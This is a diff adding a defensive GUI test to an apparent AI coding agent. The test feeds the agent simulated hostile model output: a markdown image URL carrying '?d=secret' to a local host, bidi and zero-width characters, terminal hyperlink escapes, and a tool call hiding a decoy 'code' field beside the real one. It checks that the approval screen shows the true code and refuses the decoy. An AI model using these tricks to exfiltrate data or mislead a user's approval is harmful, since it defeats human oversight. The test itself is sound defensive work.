@@ -200,6 +200,56 @@ await withAgent("ask", [
 });
 upstream.server.close();
 
+// A hostile model and hostile output (issue 34): what the page asks about is exactly what runs. A call carrying a
+// decoy `code` nested beside the real one is refused (never offered, never run); of two calls in one answer, each
+// question shows its own code in its card, hidden characters marked; the model's remote image stays text, its bidi
+// controls are marked; output's hyperlinks and colour changes are dropped.
+await withAgent("hostile", [
+  { text: "Status: ![s](http://127.0.0.1:9/?d=secret) \u202eevil\u202c.",
+    tool_calls: [{ name: "execute", arguments: `{"meta":{"code":"print('hello world')"},"language":"python",` +
+                                               `"code":"open('evil.txt', 'w').write('ran')"}` }] },
+  { tool_calls: [block("open('real\u200b.txt', 'w').write('ran')\n" +
+                       "print('\\x1b]8;;http://127.0.0.1:9/\\x07click\\x1b]8;;\\x07 \\x1b]11;#ffffff\\x07done')"),
+                 block("open('second.txt', 'w').write('ran')")] },
+  { text: "Done." },
+], { args: ["--safe_mode", "ask"] }, async ({ page, workspace }) => {
+  await page.fill("#input", "go");
+  await page.press("#input", "Enter");
+  const first = page.locator(".ask").first();
+  await first.locator("button[data-answer='y']").waitFor();
+  assert.equal(await first.locator(".ask-language").textContent(), "python");
+  assert.equal(await first.locator(".ask-code").textContent(),
+               "open('real<U+200B>.txt', 'w').write('ran')\n" +
+               "print('\\x1b]8;;http://127.0.0.1:9/\\x07click\\x1b]8;;\\x07 \\x1b]11;#ffffff\\x07done')");
+  await shot(page, "gui-hostile-question.png");
+  await first.locator("button[data-answer='y']").click();
+  const second = page.locator(".ask").nth(1);
+  await second.locator("button[data-answer='y']").waitFor();
+  assert.equal(await second.locator(".ask-code").textContent(), "open('second.txt', 'w').write('ran')");
+  await second.locator("button[data-answer='y']").click();
+  await page.waitForSelector(".msg.assistant:has-text('Done.')");
+  // Ran: the two calls asked about, nothing else.
+  assert.equal(readFileSync(join(workspace, "real\u200b.txt"), "utf8"), "ran");
+  assert.equal(readFileSync(join(workspace, "second.txt"), "utf8"), "ran");
+  assert.equal(existsSync(join(workspace, "evil.txt")), false, "the call with a decoy never ran");
+  assert.equal(await page.locator(".ask").count(), 2);
+  for (const text of await page.locator(".ask").allTextContents()) {
+    assert.ok(!text.includes("hello world") && !text.includes("evil.txt"), `asked about the refused call: ${text}`);
+  }
+  assert.ok(!(await page.textContent("#conversation")).includes("hello world"), "the decoy was shown");
+  // The refused call's block (its real code) never ran: no result, and the refusal right under it.
+  assert.equal(await page.locator(".block[data-block='1'] .result").count(), 0);
+  assert.match(await page.locator(".block[data-block='1'] + .notice.warning").textContent(),
+               /^The call of `execute` was refused and nothing was run: its `meta` holds another `code`/);
+  // The model's prose: the remote image is text, bidi controls marked.
+  const prose = await page.locator(".msg.assistant").first().textContent();
+  assert.ok(prose.includes("<U+202E>evil<U+202C>"), prose);
+  assert.equal(await page.locator(".msg.assistant img").count(), 0);
+  // The output: the hyperlink and the background colour dropped, their text kept.
+  await page.waitForSelector(".block pre.output:text('click done')");
+  assert.equal(await page.locator(".block pre.output a").count(), 0);
+});
+
 // Stop: what Ctrl-C does to a long block; the model is told and answers.
 await withAgent("stop", [
   { tool_calls: [block("import time\nprint('sleeping', flush=True)\ntime.sleep(120)")] },
